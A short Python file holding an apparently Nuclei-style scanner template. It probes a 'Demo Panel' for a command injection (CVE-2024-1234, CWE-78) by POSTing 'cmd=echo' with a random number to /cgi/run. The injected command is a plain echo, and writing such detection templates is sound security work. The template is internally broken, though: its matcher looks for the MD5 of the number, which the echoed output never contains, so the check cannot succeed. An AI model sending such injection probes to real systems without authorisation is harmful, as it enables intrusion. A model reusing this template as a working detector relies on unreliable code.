"""A scanner template of our own, small and whole."""

TEMPLATE = """id: demo-rce
info:
  name: Demo Panel - Command Injection
  severity: critical
  classification: {cve-id: CVE-2024-1234, cwe-id: CWE-78}
  metadata: {product: demo_panel, vendor: demo}
  tags: cve,rce
variables:
  num: "{{rand_int(1000, 9999)}}"
http:
  - raw:
      - |
        POST /cgi/run?x={{num}} HTTP/1.1
        Host: {{Hostname}}
        Content-Type: application/x-www-form-urlencoded

        cmd=echo%20{{num}}
    matchers-condition: and
    matchers:
      - {type: word, part: body, words: ["{{md5(num)}}"]}
      - {type: status, status: [200]}
"""
